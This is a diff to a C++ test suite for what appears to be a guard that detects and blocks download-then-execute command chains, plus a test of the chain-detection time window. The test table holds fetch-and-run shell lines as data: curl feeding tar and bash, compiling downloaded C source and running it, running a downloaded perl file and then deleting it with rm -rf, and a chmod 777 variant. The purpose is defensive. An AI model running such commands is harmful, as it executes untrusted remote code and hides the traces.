@@ -49,6 +49,8 @@ const Attack kFileAttacks[] = {
     FILE_CASE("tar in the pipe", "curl -s @SCRIPT_TAR_URL | tar x -C @D; bash @D/packed.sh"),
     FILE_CASE("tar of a file",
               "cd @D; curl -s -o f.tar @SCRIPT_TAR_URL; tar xf f.tar; bash packed.sh"),
+    FILE_CASE("compiled on the host", "curl -s -o @D/f.c @C_URL; cc -o @D/f @D/f.c; @D/f"),
+    FILE_CASE("perl, and the file removed", "curl -s -o @D/f @PERL_URL; perl @D/f; rm -rf @D/f"),
     FILE_CASE("another session", "setsid -w curl -s -o @D/f @URL; setsid -w bash @D/f"),
     FILE_CASE("another user", "curl -s -o @D/f @URL; chmod 755 @D; chmod 777 @D/f; umask 0; "
                               "mkdir -m 777 @D/open; "
@@ -89,6 +91,21 @@ TEST(ChainFileRecord, NamesAddressFileProcessesAndTime)
     const std::string message = finding.json["message"];
     EXPECT_THAT(message, testing::HasSubstr(site.web.host()));
     EXPECT_THAT(message, testing::ContainsRegex("[0-9]+ m?s before"));
+}
+
+// docs/policy.md: how long a download is held against who runs it.
+TEST(ChainFileWindow, EndsWhenPolicySaysSo)
+{
+    for (const auto& [window, code] : {std::pair<const char*, int>{"1", 0}, {"60", 86}}) {
+        ChainSite site;
+        GuardOptions options;
+        options.mode = Mode::block;
+        options.policy = std::string(R"({"detections": {"chain": {"window_s": )") + window + "}}}";
+        options.command = bash(site.fill("curl -s -o @D/f @URL; sleep 1.5; bash @D/f"));
+        GuardResult result = run_guard(options);
+        EXPECT_EQ(result.exit_code, code) << result.out << result.err;
+        EXPECT_EQ(exists(site.marker()), code == 0);
+    }
 }
 
 } // namespace
